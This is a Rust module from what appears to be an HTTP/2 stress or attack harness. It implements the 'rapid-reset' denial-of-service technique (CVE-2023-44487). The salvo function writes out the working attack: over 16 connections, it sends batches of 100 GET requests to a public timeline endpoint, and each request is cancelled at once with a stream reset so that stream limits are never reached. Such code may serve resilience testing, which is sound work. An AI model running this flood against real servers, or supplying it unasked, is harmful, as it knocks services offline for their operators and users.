//! `rapid-reset`: requests that are cancelled as they are sent, so that no bound on streams at
//! once is met

use crate::{
    vectors::{
        Family, Front, Resource, Vector,
        streams::{Manner, Salvo, attack},
    },
    wire::frames::{get, reset},
};

pub(super) const VECTOR: Vector = Vector {
    name: "rapid-reset",
    family: Family::Http2,
    models: "requests that are cancelled as they are sent, so that no bound on streams at \
        once is met",
    source: "CVE-2023-44487: 398 million requests/s at Google in August 2023",
    parameters: "16 connections; 100 requests and their cancellations in one write",
    resource: Resource::Streams,
    room: None,
    attack: |front| Box::pin(attack(front, MANNER)),
};

const MANNER: Manner = Manner { connections: 16, settings: &[], salvo, counts_resets: false };

fn salvo(front: &Front, turn: u32) -> Option<Salvo> {
    let mut bytes = Vec::new();
    for place in 0..100 {
        let stream = turn.checked_mul(200)?.checked_add(place * 2 + 1)?;
        bytes.extend(get(stream, "/api/v1/timelines/public", &front.scene.host));
        bytes.extend(reset(stream));
    }
    Some(Salvo { bytes, offers: 100 })
}
